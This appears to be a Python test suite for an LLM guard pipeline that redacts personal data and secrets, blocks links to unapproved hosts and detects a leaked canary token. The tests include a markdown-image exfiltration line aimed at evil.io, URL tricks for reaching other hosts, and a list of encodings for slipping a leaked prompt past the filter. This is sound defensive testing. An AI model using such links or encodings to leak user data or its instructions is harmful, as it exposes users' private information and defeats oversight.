import base64
import codecs
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lockgate.domain.call import DataClass
from lockgate.domain.guard import Action, Category
from lockgate.errors import InvalidConfig
from lockgate.guards.pipeline import Pipeline, Scanned
from lockgate.guards.policy import Policy

TOKEN = "q7Zp3VtX9LmK2w"
PIPELINE = Pipeline(
    {
        DataClass.INTERNAL: Policy(
            input={Category.PERSONAL: Action.REDACT, Category.SECRETS: Action.REDACT},
            output={
                Category.LINKS: Action.REDACT,
                Category.CANARY: Action.BLOCK,
                Category.PERSONAL: Action.REDACT,
            },
            restored=frozenset({Category.PERSONAL}),
            allowed_hosts=("docs.acme.io", "*.acme.dev"),
        )
    },
    canaries=(TOKEN,),
)


def answer(text: str, given: str = "") -> str:
    stream = PIPELINE.output_stream(PIPELINE.scan_input(given))
    return stream.feed(text) + stream.finish()


def test_an_answer_gets_back_the_personal_data_of_its_input_and_not_its_secrets() -> None:
    token = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6"
    asked = f"jane@acme.io has {token}"

    assert (
        answer("<personal:email:1> has <secret:github-pat:2>", asked)
        == "jane@acme.io has <secret:github-pat:2>"
    )


def test_a_placeholder_of_another_call_is_not_filled() -> None:
    assert answer("<personal:email:1>") == "<personal:email:1>"


def test_what_an_answer_hid_cannot_be_got_back_by_naming_its_placeholder() -> None:
    assert answer("new@acme.io <personal:email:1>") == "<personal:email:1> <personal:email:1>"


def test_personal_data_is_not_filled_into_an_address_outside_the_allow_list() -> None:
    sent = answer("![x](https://evil.io/?q=<personal:email:1>) done", "jane@acme.io")

    assert sent == "<links:markdown-image:2> done"


@pytest.mark.parametrize(
    "text",
    [
        "see https://docs.acme.io/a?b=c#d.",
        "[a](https://x.acme.dev/b)",
        "![logo](images/logo.png)",
        "`// a comment` and a/b",
        "```\nif a < b:\n    x = y // z\n```",
    ],
)
def test_links_to_allowed_hosts_and_what_is_no_link_stay(text: str) -> None:
    assert answer(text) == text


@pytest.mark.parametrize(
    "link",
    [
        "https://acme.dev.evil.io/",
        "https://docs.acme.io@evil.io/",
        "https://docs.acme.io\\@evil.io/",
        "https://docs.acme.io.evil.io",
        "https://acme.dev",
        "//evil.io/x",
        "https:\\\\evil.io",
        "http://2130706433/",
        "https://docs.acme.io%2eevil.io/",
        "https://evil.io#docs.acme.io",
        "https://evil.io?docs.acme.io",
    ],
)
def test_an_image_never_leads_to_another_host(link: str) -> None:
    assert "evil" not in answer(f"![a]({link})")
    assert "2130706433" not in answer(f"![a]({link})")


ENCODINGS: list[Callable[[str], str]] = [
    lambda t: t,
    str.lower,
    str.upper,
    lambda t: t[::-1],
    lambda t: codecs.encode(t, "rot13"),
    "\u200b".join,
    " ".join,
    " - ".join,
    lambda t: t.encode().hex(),
    lambda t: t.encode().hex(" ").upper(),
    lambda t: "".join(f"%{b:02x}" for b in t.encode()),
    lambda t: "".join(f"\\x{b:02x}" for b in t.encode()),
    lambda t: "".join(f"\\u00{b:02x}" for b in t.encode()),
    lambda t: "".join(f"&#{b};" for b in t.encode()),
    lambda t: " ".join(str(b) for b in t.encode()),
    lambda t: base64.b32encode(t.encode()).decode(),
    lambda t: base64.b64encode(t.encode()).decode(),
    lambda t: base64.b64encode(f"a{t}bc".encode()).decode(),
    lambda t: base64.urlsafe_b64encode(f"ab{t}".encode()).decode(),
]


@pytest.mark.parametrize("written", ENCODINGS)
def test_a_canary_ends_the_answer_however_it_is_written(written: Callable[[str], str]) -> None:
    stream = PIPELINE.output_stream(Scanned(text=""))
    text = f"My prompt is: {written(TOKEN)}, that is it"

    out = "".join(map(stream.feed, text)) + stream.finish()

    # No more comes out than the marks and the neighbours of the first character.
    assert out.startswith("My prompt is: ")
    assert len(out) <= len("My prompt is: ") + 4
    assert stream.blocked is not None
    assert (stream.blocked.rule, stream.blocked.start) == ("canary-1", len(out))
    assert stream.feed("more") == ""


@given(before=st.binary(max_size=20), after=st.binary(max_size=20))
def test_a_canary_is_found_in_base64_whatever_stands_around_it(before: bytes, after: bytes) -> None:
    text = base64.b64encode(before + TOKEN.encode() + after).decode()

    assert TOKEN not in answer(text)
    assert " end" not in answer(f"{text} end")


@pytest.mark.parametrize("token", ["short", "with a space in it", "é" * 20, "a" * 65])
def test_a_canary_that_could_come_out_by_chance_is_refused(token: str) -> None:
    with pytest.raises(InvalidConfig, match="canary 1"):
        Pipeline({}, canaries=(token,))


def test_a_policy_that_names_an_unknown_rule_is_refused() -> None:
    with pytest.raises(InvalidConfig) as caught:
        Pipeline({DataClass.PUBLIC: Policy(rules={"emial": Action.BLOCK})})

    assert caught.value.hint == "did you mean `email`?"


def test_a_rule_may_be_handled_otherwise_than_its_category() -> None:
    policy = Policy(
        input={Category.PERSONAL: Action.REDACT},
        rules={"ipv4": Action.SHADOW, "email": Action.OFF, "iban": Action.BLOCK},
    )
    pipeline = Pipeline({DataClass.INTERNAL: policy})

    scanned = pipeline.scan_input("81.2.69.142 a@acme.io GB29NWBK60161331926819 81.2.69.142")

    assert scanned.text == "81.2.69.142 a@acme.io "
    assert {(f.rule, f.action, f.start) for f in scanned.findings} == {
        ("ipv4", Action.SHADOW, 0),
        ("iban", Action.BLOCK, len(scanned.text)),
    }
    assert scanned.blocked is not None
